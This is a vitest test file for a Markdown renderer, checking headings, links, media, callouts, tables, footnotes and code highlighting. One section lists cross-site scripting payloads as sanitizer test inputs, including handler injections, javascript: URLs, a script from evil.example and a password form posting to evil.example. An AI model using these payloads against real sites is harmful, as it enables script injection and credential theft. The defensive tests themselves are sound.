import { describe, expect, it } from 'vitest';
import { createHighlight } from './highlight.ts';
import { folderWith } from './folder.testing.ts';
import type { Files } from './folder.testing.ts';
import { createLoader } from './load.ts';
import { renderMarkdown } from './render.ts';

const highlight = createHighlight();

interface Options {
  title?: string;
  files?: Files;
}

/** Renders a page that lies as `a/page.md` beside these files. */
async function render(markdown: string, { title = 'Title', files = {} }: Options = {}) {
  const dir = folderWith({ ...files, 'a/page.md': '' });
  const { places } = createLoader({ dir, reserved: [] })();
  const follow = (address: string) => places.follow('a/page.md', address);
  return renderMarkdown(markdown, { title, follow, highlight });
}

const htmlOf = async (markdown: string, options?: Options) =>
  (await render(markdown, options)).html.trim();

describe('headings', () => {
  it('does not repeat the title', async () => {
    expect(await htmlOf('# A `b`\n\nText', { title: 'A b' })).toBe('<p>Text</p>');
    expect(await htmlOf('## a  B\n\nText', { title: 'A b' })).toBe('<p>Text</p>');
    expect(await htmlOf('<h1>A <i>b</i></h1>\n\nText', { title: 'A b' })).toBe('<p>Text</p>');
  });

  it('begins at level 2 and leaves no level out', async () => {
    const levels = async (markdown: string) =>
      (await render(markdown)).headings.map(({ depth, text }) => `${depth} ${text}`);
    expect(await levels('# Other\n## B\n#### C\n###### D')).toEqual([
      '2 Other',
      '3 B',
      '4 C',
      '5 D',
    ]);
    expect(await levels('## A\n#### B\n#### C\n### D\n## E')).toEqual([
      '2 A',
      '3 B',
      '3 C',
      '3 D',
      '2 E',
    ]);
    expect(await levels('### A\n## B\n### C')).toEqual(['2 A', '2 B', '3 C']);
    expect(await levels('## A\n### B')).toEqual(['2 A', '3 B']);
    expect(await levels('#### A\n##### B')).toEqual(['2 A', '3 B']);
    expect(await levels('# Title\n### A')).toEqual(['2 A']);
  });

  it('gives ids that belong to nothing else, in every script', async () => {
    const { headings } = await render('## App\n## App\n## Über `x`\n## 日本');
    expect(headings.map(({ id }) => id)).toEqual(['s-app', 's-app-1', 's-über-x', 's-日本']);
  });

  it('takes the ids that authors give', async () => {
    const { html, headings } = await render(
      '## Slices {#part}\n## `x` { #y.z }\n## {#z} no\n\n[to](#part)',
    );
    expect(headings).toEqual([
      { depth: 2, id: 's-part', text: 'Slices' },
      { depth: 2, id: 's-y.z', text: 'x' },
      { depth: 2, id: 's-z-no', text: '{#z} no' },
    ]);
    expect(html).toContain('<a href="#s-part">to</a>');
    expect(await htmlOf('# A b {#c}\n\nText', { title: 'A b' })).toBe('<p>Text</p>');
  });

  it('lists those of the running text alone', async () => {
    const { headings } = await render(
      '## A\n\n> ## B\n\n<details>\n\n## C\n\n</details>\n\nx[^1]\n\n[^1]: y',
    );
    expect(headings.map(({ text }) => text)).toEqual(['A']);
  });
});

describe('what an author may not do', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<style>body { display: none }</style>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<img src="x" onerror="alert(1)">',
    '<p onclick="alert(1)" style="position: fixed" class="app">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvA&#x0A;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&colon;alert(1))',
    '[x](vbscript:x)',
    '![x](javascript:alert(1))',
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0"><link rel="stylesheet" href="x">',
    '<video src="x.mp4" autoplay onplay="alert(1)"></video>',
    '<details ontoggle="alert(1)" open>x</details>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!-- <script>alert(1)</script> -->',
  ])('%s', async (html) => {
    const made = await htmlOf(html);
    const withoutValues = made.replace(/"[^"]*"/g, '');
    expect(withoutValues).not.toMatch(/<(?!\/?(?:a|br|details|img|p|summary|table|video)\b)/);
    expect(withoutValues).not.toMatch(/\s(?:on\w+|style|autoplay|action|name|http-equiv)\b/i);
    expect(made).not.toMatch(/(?:href|src)="(?!\/)|class="app"/);
    expect(withoutValues).not.toContain('alert');
  });

  it('take an id that the page around the text may have', async () => {
    expect(await htmlOf('<p id="app">x</p> <a name="y"></a>')).toContain('<p id="s-app">x</p>');
    expect(await htmlOf('<a name="y">z</a>')).toBe('<p><a id="s-y">z</a></p>');
  });
});

describe('links', () => {
  const files = { 'a/02-next.md': '## Part', 'a/p.pdf': '' };

  it('lead to pages, their parts and files', async () => {
    const html = await htmlOf(
      '[1](02-next.md#part) [2](#here) [3](p.pdf) <a href="./02-next.md">4</a>',
      {
        files,
      },
    );
    expect(html).toBe(
      '<p><a href="/a/next#s-part">1</a> <a href="#s-here">2</a> <a href="/a/p.pdf">3</a> <a href="/a/next">4</a></p>',
    );
  });

  it('leave their text where they lead nowhere, and tell the line', async () => {
    const { html, broken } = await render('# Title\n\n[a **b**](x.md) and\n[c][c]\n\n[c]: y.md');
    expect(html.trim()).toBe('<p>a <strong>b</strong> and\nc</p>');
    expect(broken).toMatchObject([
      { line: 3, message: 'the link to x.md leads nowhere: nothing is at a/x.md' },
      { line: 4, message: 'the link to y.md leads nowhere: nothing is at a/y.md' },
    ]);
  });

  it('give nothing away to other sites', async () => {
    expect(await htmlOf('<https://example.com>')).toContain('rel="noopener"');
  });
});

describe('pictures and players', () => {
  const png = Buffer.from('89504e470d0a1a0a0000000d494844520000002000000010', 'hex');

  it('load lazily, in a place that is kept free', async () => {
    expect(await htmlOf('![A hill](hill.png "Hill")', { files: { 'a/hill.png': png } })).toBe(
      '<p><img src="/a/hill.png" alt="A hill" title="Hill" loading="lazy" decoding="async" width="32" height="16"></p>',
    );
  });

  it('keep the size that the author gave', async () => {
    const html = await htmlOf('<img src="hill.png" width="8">', { files: { 'a/hill.png': png } });
    expect(html).toBe('<img src="/a/hill.png" width="8" alt="" loading="lazy" decoding="async">');
  });

  it('leave their description where they are missing', async () => {
    const { html, broken } = await render('![A hill](hill.png)');
    expect(html.trim()).toBe('<p>A hill</p>');
    expect(broken).toMatchObject([{ severity: 'warning', line: 1 }]);
  });

  it('do not tell other sites which page shows them', async () => {
    expect(await htmlOf('![x](https://example.com/x.png)')).toContain(
      'referrerpolicy="no-referrer"',
    );
  });

  it('become players for video and sound', async () => {
    const files = { 'a/v.mp4': '', 'a/s.mp3': '', 'a/c.vtt': '' };
    expect(await htmlOf('![A walk](v.mp4) ![Rain](s.mp3)', { files })).toBe(
      '<p><video src="/a/v.mp4" aria-label="A walk" controls preload="metadata" playsinline></video> ' +
        '<audio src="/a/s.mp3" aria-label="Rain" controls preload="metadata"></audio></p>',
    );
    const html = await htmlOf(
      '<video poster="p.png"><source src="v.mp4"><track src="c.vtt" kind="captions" default></video>',
      { files: { ...files, 'a/p.png': png } },
    );
    expect(html).toContain('<video poster="/a/p.png" controls preload="metadata" playsinline>');
    expect(html).toContain('<source src="/a/v.mp4"><track src="/a/c.vtt" kind="captions" default>');
  });
});

describe('blocks', () => {
  it('makes callouts', async () => {
    expect(await htmlOf('> [!WARNING]\n> Careful.\n>\n> - x')).toBe(
      '<div class="callout callout-warning" role="note">\n<p class="callout-title">Warning</p>\n' +
        '<p>Careful.</p>\n<ul>\n<li>x</li>\n</ul>\n</div>',
    );
    expect(await htmlOf('> [!tip]\n>\n> Do.')).toContain(
      '<p class="callout-title">Tip</p>\n<p>Do.</p>',
    );
    expect(await htmlOf('> [!constructor]\n> x')).toContain('<blockquote>');
    expect(await htmlOf('> [!NOTE] and more')).toContain('<blockquote>');
  });

  it('makes tables that scroll by keyboard and say what they head', async () => {
    const html = await htmlOf('| | b |\n|-|:-:|\n| 1 | 2 |\n\n| c |\n|---|\n');
    expect(html).toContain(
      '<div class="table" role="region" tabindex="0" aria-label="Table 1"><table>',
    );
    expect(html).toContain('aria-label="Table 2"');
    expect(html).toContain('<td></td>\n<th align="center" scope="col">b</th>');
    const named = await htmlOf('<table><caption>Ferries</caption><tr><td>1</td></tr></table>');
    expect(named).toContain('aria-label="Ferries"');
  });

  it('names the boxes of task lists, loose ones too, and drops fields of forms', async () => {
    expect(await htmlOf('- [x] a\n- [ ] b')).toContain(
      '<input type="checkbox" checked disabled aria-label="Done"> a',
    );
    expect(await htmlOf('- [x] a\n\n- [ ] b')).toContain('disabled aria-label="To do"> b');
    expect(await htmlOf('<p><input type="text"><input type="checkbox">x</p>')).toBe('<p>x</p>');
  });

  it('makes footnotes that lead there and back', async () => {
    const html = await htmlOf('Text[^n].\n\n[^n]: Note.');
    expect(html).toContain('<a href="#s-fn-n" id="s-fnref-n"');
    expect(html).toContain('aria-describedby="s-footnote-label"');
    expect(html).toContain('<h2 id="s-footnote-label">Footnotes</h2>');
    expect(html).toContain('<li id="s-fn-n">');
    expect(html).toContain(
      'href="#s-fnref-n" data-footnote-backref="" aria-label="Back to reference 1"',
    );
  });

  it('shows Markdown in foldable parts, and names those without a summary', async () => {
    expect(await htmlOf('<details>\n\nSome *text*\n\n</details>')).toBe(
      '<details><summary>Details</summary>\n<p>Some <em>text</em></p>\n</details>',
    );
    expect(await htmlOf('<details><summary>More</summary>x</details>')).toBe(
      '<details><summary>More</summary><p>x</p></details>',
    );
  });

  it('makes paragraphs of what stands loose in foldable parts', async () => {
    const html = await htmlOf('<details>\nOne <b>thing</b>\nand\n\nTwo\n\n- x\n</details>');
    expect(html.replaceAll('\n', '')).toBe(
      '<details><summary>Details</summary><p>One <b>thing</b>and</p><p>Two</p><ul><li>x</li></ul></details>',
    );
  });
});

describe('code', () => {
  it('is coloured by class and wrapped', async () => {
    expect(await htmlOf('```js\nlet a = "<b>";\n\n// end\n```')).toBe(
      '<div class="code" data-language="js"><pre tabindex="0" role="group" aria-label="Code: js"><code>' +
        '<span class="code-keyword">let</span> a <span class="code-keyword">=</span> ' +
        '<span class="code-string-expression">"&#x3C;b>"</span>;\n\n' +
        '<span class="code-comment">// end</span></code></pre></div>',
    );
  });

  it('is plain in unknown languages and without one', async () => {
    expect(await htmlOf('```bob\n+--+\n```')).toBe(
      '<div class="code" data-language="bob"><pre tabindex="0" role="group" aria-label="Code: bob">' +
        '<code>+--+</code></pre></div>',
    );
    expect(await htmlOf('```\na < b\n```')).toContain('aria-label="Code"><code>a &#x3C; b</code>');
    expect(await htmlOf('```constructor\nx\n```')).toContain('<code>x</code>');
  });

  it('is named by its place where there are several', async () => {
    const html = await htmlOf('```js\n1\n```\n\n```\n2\n```\n\n```js\n3\n```');
    const names = [...html.matchAll(/aria-label="([^"]*)"/g)].map(([, name]) => name);
    expect(names).toEqual(['Code 1: js', 'Code 2', 'Code 3: js']);
  });

  it('takes what follows a comma in the fence for other programs', async () => {
    const html = await htmlOf('```rust,editable,compile_fail\nfn main() {}\n```');
    expect(html).toContain('data-language="rust"');
    expect(html).toContain('<span class="code-keyword">fn</span>');
  });

  it('hides the lines that Rust books hide', async () => {
    const html = await htmlOf(
      '```rust\n# use std::fmt;\n#\n#[test]\n##shown\nfn a() {}\n```\n\n```sh\n# shown\n```',
    );
    expect(html).not.toContain('use');
    expect(html).toContain('[');
    expect(html).toMatch(/#.*shown/);
    expect(html.match(/shown/g)).toHaveLength(2);
  });
});
